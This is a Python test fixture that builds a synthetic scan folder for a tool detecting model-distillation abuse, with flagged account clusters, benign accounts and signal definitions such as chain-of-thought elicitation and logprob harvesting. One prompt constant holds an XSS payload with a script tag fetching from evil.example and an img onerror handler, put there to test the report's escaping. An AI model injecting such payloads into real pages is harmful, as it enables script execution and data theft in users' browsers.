"""A realistic small scan folder (every file of .notes/SCAN_OUTPUT.md), built without running scan.

Flagged clusters share a payment fingerprint, a /24 prefix, a user agent and a prompt template;
benign accounts include a university NAT cluster that is linked but not flagged; flagged singletons
have no cluster. One example prompt carries an XSS payload so that the report's escaping is tested.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

T0 = 1_767_225_600  # 2026-01-01T00:00:00Z
HOURS = 72
XSS_PROMPT = (
    "Explain step by step <script>window.__pwned = 1; fetch('https://evil.example/x')</script>"
    " and <img src=x onerror=\"window.__pwned = 2\"> then answer."
)

SIGNALS = [
    {"id": "DG-0001", "name": "cot_elicitation", "title": "Chain-of-thought elicitation",
     "description": "Share of prompts that ask for step-by-step reasoning or hidden reasoning.",
     "analyst_note": "Reasoning traces are the most valuable distillation target.",
     "atlas": ["AML.T0024.002"], "level": "high",
     "falsepositives": ["tutoring products", "math homework helpers"], "feature": "cot_share"},
    {"id": "DG-0002", "name": "templated_prompts", "title": "Templated prompts",
     "description": "Share of prompts that share a prefix/suffix template with many others.",
     "analyst_note": "Batch jobs are templated too; look at topic breadth.",
     "atlas": ["AML.T0024.002", "AML.T0005.001"], "level": "medium",
     "falsepositives": ["batch translation jobs", "evaluation harnesses"], "feature": "template_share"},
    {"id": "DG-0003", "name": "single_turn", "title": "Single-turn conversations",
     "description": "Share of requests with one user message and no follow-up.",
     "analyst_note": "Weak alone.", "atlas": ["AML.T0024.002"], "level": "low",
     "falsepositives": ["classification APIs"], "feature": "single_turn_share"},
    {"id": "DG-0004", "name": "volume", "title": "Request volume",
     "description": "Requests over the scan.", "analyst_note": "Products are large too.",
     "atlas": ["AML.T0024.002"], "level": "low", "falsepositives": ["products with many users"],
     "feature": "requests"},
    {"id": "DG-0005", "name": "logprob_harvest", "title": "Log-probability harvesting",
     "description": "Share of requests asking for logprobs/top_logprobs.",
     "analyst_note": "Soft labels make distillation far more efficient.",
     "atlas": ["AML.T0024.002", "AML.T0005.001"], "level": "high",
     "falsepositives": ["calibration research"], "feature": "logprobs_share"},
    {"id": "DG-0006", "name": "sync_timing", "title": "Synchronised activity",
     "description": "Accounts active in the same minutes.", "analyst_note": "Cluster-level signal.",
     "atlas": ["AML.T0024.002"], "level": "medium", "falsepositives": ["cron jobs"],
     "feature": None},
]


def _write_jsonl(path: Path, rows) -> None:
    with path.open("w", encoding="utf-8") as f:
        for row in rows:
            f.write(json.dumps(row) + "\n")


def build_scan_dir(
    out: Path,
    *,
    n_benign: int = 300,
    cluster_sizes: tuple[int, ...] = (14, 8, 5),
    n_flagged_singletons: int = 3,
    seed: int = 0,
) -> Path:
    """Write a scan folder to ``out`` and return it."""
    rng = np.random.default_rng(seed)
    out.mkdir(parents=True, exist_ok=True)
    accounts: list[dict] = []
    verdicts: list[dict] = []
    clusters: list[dict] = []
    evidence: list[dict] = []
    edges: list[tuple[str, str, str, float]] = []

    def feat(flagged: bool) -> dict:
        if flagged:
            return {"requests": int(rng.integers(400, 3000)), "tokens_out": int(rng.integers(2e5, 2e6)),
                    "single_turn_share": float(rng.uniform(0.9, 1.0)), "cot_share": float(rng.uniform(0.4, 0.95)),
                    "template_share": float(rng.uniform(0.6, 1.0)), "logprobs_share": float(rng.uniform(0.0, 0.9))}
        return {"requests": int(rng.lognormal(3, 1.2)) + 1, "tokens_out": int(rng.lognormal(9, 1.5)),
                "single_turn_share": float(rng.beta(2, 3)), "cot_share": float(rng.beta(1, 12)),
                "template_share": float(rng.beta(1, 6)), "logprobs_share": float(rng.beta(0.3, 20))}

    def timeline(active_from: int, active_to: int, rate: float) -> dict:
        counts = np.zeros(HOURS, dtype=int)
        counts[active_from:active_to] = rng.poisson(rate, active_to - active_from)
        return {"start": T0, "bucket_s": 3600, "counts": counts.tolist()}

    # Benign accounts; the first 6 form a linked-but-benign university NAT cluster.
    for i in range(n_benign):
        aid = f"acct-b{i:04d}"
        cid = "c-nat" if i < 6 else None
        score = float(rng.beta(1.2, 12))
        accounts.append({"account_id": aid, "score": score, "flagged": False, "cluster_id": cid, **feat(False)})
        verdicts.append({"account_id": aid, "score": score, "flagged": False, "cluster_id": cid, "reasons": []})
    clusters.append({"cluster_id": "c-nat", "account_ids": [f"acct-b{i:04d}" for i in range(6)], "score": 0.08,
                     "flagged": False, "links": [{"type": "ip_prefix", "value": "192.0.2.0/24", "accounts": 6,
                                                  "edges": 15}]})

    n = 0
    for c, size in enumerate(cluster_sizes):
        cid = f"c-{c:04d}"
        members = [f"acct-x{c}{k:03d}" for k in range(size)]
        prefix = f"203.{c // 100}.{113 + c % 100}.0/24"
        ua = f"python-httpx/0.{27 + c}.0 extractor/{c}"
        pay = f"pf_{c:02d}" + "ab" * 10
        tmpl = f"{c:x}" * 16
        cscore = round(0.97 - 0.04 * c, 3)
        start = (5 + 7 * c) % 40
        for k, aid in enumerate(members):
            score = float(min(1.0, cscore - rng.uniform(0, 0.1)))
            reasons = [
                {"signal": "cot_elicitation", "value": round(float(rng.uniform(0.5, 0.9)), 3),
                 "detail": "71% of prompts ask for step-by-step reasoning"},
                {"signal": "templated_prompts", "value": 0.88, "detail": f"template {tmpl[:8]} in 88% of prompts"},
                {"signal": "sync_timing", "value": 0.6, "detail": f"active in the same minutes as {size - 1} accounts"},
            ]
            accounts.append({"account_id": aid, "score": score, "flagged": True, "cluster_id": cid, **feat(True)})
            verdicts.append({"account_id": aid, "score": score, "flagged": True, "cluster_id": cid, "reasons": reasons})
            ip = f"203.{c // 100}.{113 + c % 100}.{(10 + k) % 250}"
            prompts = [
                f"Solve the following problem and show your reasoning step by step: problem #{n * 10 + j}"
                for j in range(3)
            ]
            if c == 0 and k == 0:
                prompts.insert(0, XSS_PROMPT)
            evidence.append({
                "account_id": aid, "cluster_id": cid, "score": score, "example_prompts": prompts,
                "timeline": timeline(start, min(HOURS, start + 30), 20.0),
                "links": [{"account_id": members[(k + 1) % size], "type": "payment_fingerprint", "value": pay,
                           "weight": 1.0}],
                "indicators": {"client_ips": [ip], "ip_prefixes": [prefix], "user_agents": [ua],
                               "payment_fingerprints": [pay], "template_signatures": [tmpl]},
            })
            n += 1
        for a in range(size):
            edges.append((members[a], members[(a + 1) % size], "payment_fingerprint", 1.0))
            edges.append((members[a], members[(a + 3) % size], "ip_prefix", 0.6))
            if a % 2 == 0:
                edges.append((members[a], members[(a + 2) % size], "shared_prompts", 0.8))
        edges.append((members[0], "acct-b0100", "email_domain", 0.1))  # an edge leaving the cluster
        clusters.append({"cluster_id": cid, "account_ids": members, "score": cscore, "flagged": True, "links": [
            {"type": "payment_fingerprint", "value": pay, "accounts": size, "edges": size},
            {"type": "ip_prefix", "value": prefix, "accounts": size, "edges": size},
            {"type": "user_agent_params", "value": ua, "accounts": size, "edges": size * (size - 1) // 2},
            {"type": "shared_prompts", "value": tmpl, "accounts": size, "edges": size // 2},
            {"type": "sync_timing", "value": None, "accounts": size, "edges": size},
            {"type": "template", "value": tmpl[::-1] + "ff", "accounts": size, "edges": 1},
        ], "fingerprints": [{"value": f"you are a grader {c}. | 0.2|-|4096|1|0 | #0{c}", "accounts": size}],
            "reasons": [{"signal": "sync_timing", "value": 0.9,
                        "detail": f"{size} accounts active in the same minutes"}]})

    for s in range(n_flagged_singletons):
        aid = f"acct-s{s:04d}"
        score = float(rng.uniform(0.7, 0.95))
        reasons = [{"signal": "logprob_harvest", "value": 0.8, "detail": "80% of requests ask for top_logprobs"}]
        accounts.append({"account_id": aid, "score": score, "flagged": True, "cluster_id": None, **feat(True)})
        verdicts.append({"account_id": aid, "score": score, "flagged": True, "cluster_id": None, "reasons": reasons})
        evidence.append({
            "account_id": aid, "cluster_id": None, "score": score,
            "example_prompts": [f"Translate item {s} into 12 languages", "sha256:" + "0f" * 32],
            "timeline": timeline(0, HOURS, 3.0), "links": [],
            "indicators": {"client_ips": [f"198.51.100.{s % 250}"], "ip_prefixes": ["198.51.100.0/24"],
                           "user_agents": ["OpenAI/Python 1.40.0"], "payment_fingerprints": [f"pf_single{s}"],
                           "template_signatures": []},
        })

    requests = int(sum(a["requests"] for a in accounts))
    flagged = [a for a in accounts if a["flagged"]]
    summary = {"inputs": ["traffic.jsonl.zst"], "requests": requests, "accounts": len(accounts), "rejected": 3,
               "flagged_accounts": len(flagged), "clusters": len(clusters),
               "flagged_clusters": sum(c["flagged"] for c in clusters), "threshold": 0.62,
               "time_range": [T0, T0 + HOURS * 3600 - 1], "elapsed_s": 1.7, "engine": "duckdb",
               "version": "0.1.0"}

    (out / "summary.json").write_text(json.dumps(summary, indent=2))
    (out / "signals.json").write_text(json.dumps(SIGNALS, indent=2))
    _write_jsonl(out / "verdicts.jsonl", verdicts)
    _write_jsonl(out / "clusters.jsonl", clusters)
    _write_jsonl(out / "evidence.jsonl", evidence)
    _write_jsonl(out / "rejected.jsonl", [
        {"source": "traffic.jsonl.zst", "line": 17, "reason": "not JSON", "raw": "{oops <b>bold</b>"},
        {"source": "traffic.jsonl.zst", "line": 90, "reason": "missing field account_id", "raw": "{}"},
        {"source": "traffic.jsonl.zst", "line": 91, "reason": "missing field account_id", "raw": "{}"},
    ])
    pq.write_table(pa.Table.from_pylist(accounts), out / "accounts.parquet")
    pq.write_table(pa.table({"src": [e[0] for e in edges], "dst": [e[1] for e in edges],
                             "type": [e[2] for e in edges], "weight": [e[3] for e in edges]}),
                   out / "graph_edges.parquet")
    return out


@pytest.fixture(scope="session")
def scan_dir(tmp_path_factory) -> Path:
    """A small, realistic scan folder (read-only for tests: copy it before writing into it)."""
    return build_scan_dir(tmp_path_factory.mktemp("scan"))


@pytest.fixture
def make_scan_dir(tmp_path):
    """Factory: ``make_scan_dir(**kwargs)`` builds a scan folder with the given sizes."""

    def make(**kwargs) -> Path:
        return build_scan_dir(tmp_path / "scan", **kwargs)

    return make
